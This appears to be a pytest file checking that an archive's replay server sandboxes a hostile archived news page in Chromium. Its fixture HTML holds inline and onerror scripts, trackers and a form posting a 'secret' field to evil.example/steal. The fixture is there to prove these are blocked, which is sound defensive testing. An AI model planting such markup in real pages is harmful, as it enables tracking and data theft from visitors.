@@ -1,0 +1,135 @@
+"""A hostile archived page replayed in a real browser (Debian's chromium through Playwright)
+from a real uvicorn server on 127.0.0.1: nothing it tries gets out.
+
+The page sets a marker from an inline script, loads a script and an image from another host,
+sends a cookie and has a form posting to another host. Replayed, no script may run, no
+request may leave the replay origin, no cookie may be set, and its text must be visible.
+"""
+
+from __future__ import annotations
+
+import socket
+import threading
+from collections.abc import Iterator
+from datetime import UTC, datetime
+from pathlib import Path
+
+import pytest
+import uvicorn
+
+from archive.db import Archive
+from archive.warc import Exchange, RotatingWarcWriter, list_warcs
+from archive.web.replay_app import create_replay_app
+from crawler.ingest import ingest_files
+
+CHROMIUM = Path("/usr/bin/chromium")
+ARTIFACTS = Path(__file__).resolve().parent / "artifacts"
+WHEN = datetime(2024, 5, 4, 10, 30, tzinfo=UTC)
+TS = "20240504103000"
+URL = "http://hostile.test/story.html"
+
+HOSTILE = """<!DOCTYPE html>
+<html><head><title>Archived story</title>
+<link rel="stylesheet" href="/style.css">
+<script>document.documentElement.setAttribute("data-pwned", "inline");
+document.cookie = "script_cookie=1; path=/";</script>
+<script src="http://evil.example/track.js"></script>
+</head><body>
+<h1>Ceasefire talks resume in Geneva</h1>
+<p id="lead">Delegations met for six hours on Tuesday.</p>
+<img src="http://evil.example/pixel.gif" alt="">
+<img src="https://cdn.evil.example/photo.jpg" srcset="https://cdn.evil.example/photo2.jpg 2x">
+<form id="f" action="https://evil.example/steal" method="post">
+<input name="q" value="secret"><button id="go" type="submit">Send</button></form>
+<a id="out" href="https://evil.example/elsewhere">elsewhere</a>
+<iframe src="https://evil.example/frame.html"></iframe>
+<div style="background-image: url(https://evil.example/bg.png)">styled</div>
+<img src="x" onerror="document.documentElement.setAttribute('data-pwned', 'onerror')">
+</body></html>
+"""
+
+
+def free_port() -> int:
+    with socket.socket() as s:
+        s.bind(("127.0.0.1", 0))
+        return int(s.getsockname()[1])
+
+
+@pytest.fixture(scope="module")
+def replay_server(tmp_path_factory: pytest.TempPathFactory) -> Iterator[str]:
+    data = tmp_path_factory.mktemp("hostile")
+    writer = RotatingWarcWriter(data / "warcs", "hostile", host="h")
+    meta = {"source": "hostile", "kind": "other"}
+    writer.write_exchange(Exchange(
+        URL, "GET", "/story.html", (), "HTTP/1.1", 200, "OK",
+        (("Content-Type", "text/html; charset=utf-8"),
+         ("Set-Cookie", "tracker=abc123; Path=/; Max-Age=31536000"),
+         ("Set-Cookie", "session=s1; Path=/; HttpOnly"),
+         ("Content-Security-Policy", "script-src * 'unsafe-inline'"),
+         ("Access-Control-Allow-Origin", "*")),
+        HOSTILE.encode(), WHEN, metadata=meta))
+    writer.write_exchange(Exchange(
+        "http://hostile.test/style.css", "GET", "/style.css", (), "HTTP/1.1", 200, "OK",
+        (("Content-Type", "text/css"),),
+        b"h1 { color: rgb(128, 0, 0); background: url(https://evil.example/h1.png) }",
+        WHEN, metadata=meta))
+    writer.close()
+    with Archive(data / "archive.db") as archive:
+        ingest_files(archive, list_warcs(data / "warcs"), None, workers=1)
+    port = free_port()
+    server = uvicorn.Server(uvicorn.Config(create_replay_app(data), host="127.0.0.1",
+                                           port=port, log_level="warning"))
+    thread = threading.Thread(target=server.run, daemon=True)
+    thread.start()
+    while not server.started:
+        if not thread.is_alive():
+            pytest.fail("uvicorn did not start")
+        threading.Event().wait(0.02)
+    yield f"http://127.0.0.1:{port}"
+    server.should_exit = True
+    thread.join()
+
+
+def test_hostile_page_replays_with_nothing_escaping(replay_server: str) -> None:
+    if not CHROMIUM.exists():
+        pytest.skip("/usr/bin/chromium is not installed (make test installs it)")
+    from playwright.sync_api import sync_playwright
+
+    ARTIFACTS.mkdir(exist_ok=True)
+    requests: list[str] = []
+    with sync_playwright() as pw:
+        browser = pw.chromium.launch(executable_path=str(CHROMIUM),
+                                     args=["--no-sandbox", "--disable-gpu"])
+        try:
+            context = browser.new_context()
+            page = context.new_page()
+            page.on("request", lambda request: requests.append(request.url))
+            response = page.goto(f"{replay_server}/replay/{TS}/{URL}")
+            assert response is not None and response.status == 200
+            page.wait_for_load_state("load")
+            # The archived text is there, and the archived stylesheet loaded from the archive.
+            assert page.locator("h1").inner_text() == "Ceasefire talks resume in Geneva"
+            assert page.locator("#lead").is_visible()
+            assert page.eval_on_selector("h1", "e => getComputedStyle(e).color") == \
+                "rgb(128, 0, 0)"
+            page.screenshot(path=str(ARTIFACTS / "replay-hostile.png"), full_page=True)
+            # Neither the inline script nor the onerror handler ran; no cookie got through.
+            assert page.evaluate("document.documentElement.getAttribute('data-pwned')") is None
+            assert context.cookies() == []
+            # Submitting the form or following a link stays inside the archive (or nowhere).
+            page.click("#go")
+            page.wait_for_load_state("load")
+            assert page.url == f"{replay_server}/replay/{TS}/{URL}"  # sandbox: no submit
+            page.click("#out")
+            page.wait_for_load_state("load")
+            page.screenshot(path=str(ARTIFACTS / "replay-hostile-link.png"))
+            assert "Not in the archive" in page.content()
+            cookies = context.cookies()
+        finally:
+            browser.close()
+    assert cookies == []
+    assert requests, "the browser made no request at all"
+    outside = [u for u in requests if not u.startswith(replay_server + "/")]
+    assert outside == []
+    assert f"{replay_server}/replay/{TS}/http://hostile.test/style.css" in requests
+    assert not any(u.endswith("/https://evil.example/steal") for u in requests)
